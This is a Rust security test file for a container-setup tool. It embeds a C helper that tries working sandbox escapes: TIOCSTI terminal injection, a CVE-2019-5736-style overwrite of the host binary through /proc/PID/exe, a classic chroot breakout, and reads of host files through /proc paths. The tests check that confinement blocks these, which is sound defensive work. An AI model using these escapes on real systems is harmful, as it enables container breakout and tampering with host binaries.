//! What the command may do (issue 13, item 1): it runs with a bounded capability set,
//! no_new_privs, the caller's umask, and mountplan's own processes are out of its reach.
//! Each attack here is what a hostile root's code would try, and each succeeded before
//! `[process]` existed (the command had every capability and mountplan was dumpable):
//!
//! - through `/proc/PID/root` of a host process, read a host file (no pid namespace);
//! - through `/proc/$PPID/fd/N`, read a descriptor the caller leaked into mountplan;
//! - open `/proc/$PPID/exe`, hold it until mountplan exits, then write the binary through it
//!   (CVE-2019-5736; a copy of mountplan placed in the scratch directory is what runs);
//! - open `/proc/1/exe` of mountplan's init in a pid namespace;
//! - push input into the caller's terminal with TIOCSTI, with and without `--keep-terminal`.
//!
//! And what the command gets is what the plan says, seen from inside: `/proc/self/status`
//! (CapEff, CapPrm, CapBnd, CapInh, CapAmb, NoNewPrivs), the umask of the files it makes, `id`,
//! `pwd`, `hostname`, `env` and the PATH search; rootless as well.
//!
//! Attacks that need C (ioctl, holding a descriptor across mountplan's exit) use a small static
//! helper compiled here from the source below with `cc -static` (.ci/run installs
//! build-essential).

use std::os::fd::{AsRawFd, OwnedFd};
use std::os::unix::process::CommandExt;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::sync::OnceLock;
use std::time::{Duration, Instant};

use crate::support::*;

#[path = "privileges/granted.rs"]
mod granted;
#[path = "privileges/reach.rs"]
mod reach;

const HELPER_C: &str = r#"
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

static const char *ename(int e) {
    static char b[32];
    switch (e) {
    case 0: return "none";
    case EPERM: return "EPERM";
    case EACCES: return "EACCES";
    case ETXTBSY: return "ETXTBSY";
    case ENOENT: return "ENOENT";
    case EIO: return "EIO";
    case ENOTTY: return "ENOTTY";
    }
    snprintf(b, sizeof b, "errno%d", e);
    return b;
}

/* Writes `text` to `path` at once (a temporary file renamed), so a reader never sees half. */
static void out(const char *path, const char *text) {
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s.tmp", path);
    int fd = open(tmp, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd < 0) _exit(3);
    if (write(fd, text, strlen(text)) < 0) _exit(3);
    close(fd);
    rename(tmp, path);
}

int main(int argc, char **argv) {
    char buf[512];
    if (argc == 3 && !strcmp(argv[1], "tiocsti")) {
        /* tiocsti OUT: push a command line into the terminal on fd 0, byte by byte. */
        const char *s = "echo INJECTED\n";
        int ok = 0, err = 0;
        for (const char *p = s; *p; p++) {
            if (ioctl(0, TIOCSTI, p) == 0) ok++;
            else err = errno;
        }
        snprintf(buf, sizeof buf, "tiocsti_ok=%d\ntiocsti_err=%s\n", ok, ename(err));
        out(argv[2], buf);
        return 0;
    }
    if (argc == 4 && !strcmp(argv[1], "hold-exe")) {
        /* hold-exe PATH OUT: open PATH (/proc/PID/exe), let the command end, then write the
           file through /proc/self/fd/N once nothing executes it any more (CVE-2019-5736). */
        int fd = open(argv[2], O_RDONLY);
        if (fd < 0) {
            snprintf(buf, sizeof buf, "open=%s\n", ename(errno));
            out(argv[3], buf);
            return 0;
        }
        pid_t p = fork();
        if (p != 0) return 0;
        setsid();
        char self[64];
        snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
        int w = -1, e = 0, tries;
        for (tries = 1; tries <= 1000; tries++) {
            w = open(self, O_WRONLY);
            if (w >= 0) break;
            e = errno;
            if (e != ETXTBSY) break;
            struct timespec ts = {0, 10 * 1000 * 1000};
            nanosleep(&ts, 0);
        }
        if (w >= 0 && write(w, "pwned", 5) == 5)
            snprintf(buf, sizeof buf, "open=ok\nwrite=ok\ntries=%d\n", tries);
        else
            snprintf(buf, sizeof buf, "open=ok\nwrite=%s\ntries=%d\n", ename(e), tries);
        out(argv[3], buf);
        return 0;
    }
    if (argc == 3 && !strcmp(argv[1], "open")) {
        /* open PATH: print whether it opens for reading, and the first bytes. */
        int fd = open(argv[2], O_RDONLY);
        if (fd < 0) { printf("open=%s\n", ename(errno)); return 0; }
        char b[64] = {0};
        ssize_t n = read(fd, b, sizeof b - 1);
        printf("open=ok\nread=%zd\n", n);
        return 0;
    }
    if (argc == 4 && !strcmp(argv[1], "chroot-escape")) {
        /* chroot-escape DIR PATH: the classic way out of a plain chroot: chroot into DIR (a
           directory below the working directory), so the working directory is outside the
           new root; climb `..` from there, chroot at the top, and read PATH. */
        mkdir(argv[2], 0700);
        if (chroot(argv[2]) != 0) { printf("chroot=%s\n", ename(errno)); return 0; }
        for (int i = 0; i < 128; i++) if (chdir("..") != 0) break;
        if (chroot(".") != 0) { printf("chroot-top=%s\n", ename(errno)); return 0; }
        int fd = open(argv[3], O_RDONLY);
        if (fd < 0) { printf("chroot=ok\nopen=%s\n", ename(errno)); return 0; }
        char b[64] = {0};
        ssize_t n = read(fd, b, sizeof b - 1);
        printf("chroot=ok\nopen=ok\nread=%zd\n%s", n, b);
        return 0;
    }
    fprintf(stderr, "usage: helper tiocsti OUT | hold-exe PATH OUT | open PATH | chroot-escape DIR PATH\n");
    return 2;
}
"#;

/// The helper, compiled once per test process into cargo's scratch directory for tests
/// (`None`, with NOT RUN, when `cc -static` fails).
fn helper() -> Option<PathBuf> {
    static H: OnceLock<Option<PathBuf>> = OnceLock::new();
    H.get_or_init(|| {
        compile_c(
            "privileges-helper",
            HELPER_C,
            &["-static", "-O1"],
            "privileges",
        )
    })
    .clone()
}

/// A busybox root on disk with the helper at /bin/helper, and a secret outside it.
struct Sandbox {
    s: Scratch,
    root: PathBuf,
    secret: PathBuf,
}

fn sandbox(name: &str) -> Option<Sandbox> {
    let helper = helper()?;
    let s = Scratch::new(name);
    let root = s.path("root");
    busybox_root(&root);
    std::fs::copy(&helper, root.join("bin/helper")).unwrap();
    let secret = s.write("outside/host-secret", "the host's secret\n");
    Some(Sandbox { s, root, secret })
}

impl Sandbox {
    /// A plan on this root: `[namespaces]` and `[process]` bodies, proc mounted, then `pivot`
    /// (a strategy, and a fallback or none).
    fn plan(&self, ns: &str, process: &str, pivot: &str) -> PathBuf {
        self.s.write(
            "p.toml",
            &format!(
                "version = 1\nname = \"privileges\"\n[root]\npath = \"{}\"\n\
                 [namespaces]\nuser = false\n{ns}\n[process]\n{process}\n\
                 [[step]]\nkind = \"mount\"\nid = \"proc\"\ntype = \"proc\"\ntarget = \"/proc\"\n\
                 [[step]]\nkind = \"pivot\"\n{pivot}\n",
                self.root.display()
            ),
        )
    }
    fn apply(&self, plan: &Path) -> Run<'static> {
        Run::apply(plan, &self.s.state())
    }
}

const PIVOT: &str = "strategy = \"pivot-root\"";

/// A capability set from /proc/PID/status (`CapEff:\t000001ffffffffff`).
fn status_field(text: &str, field: &str) -> Option<u64> {
    let line = text.lines().find(|l| l.starts_with(&format!("{field}:")))?;
    u64::from_str_radix(line.split_whitespace().nth(1)?, 16).ok()
}

/// What this test process may give (its permitted ∩ bounding), which bounds what mountplan,
/// started by it, can give.
fn own_caps() -> u64 {
    let s = std::fs::read_to_string("/proc/self/status").unwrap();
    status_field(&s, "CapPrm").unwrap() & status_field(&s, "CapBnd").unwrap()
}
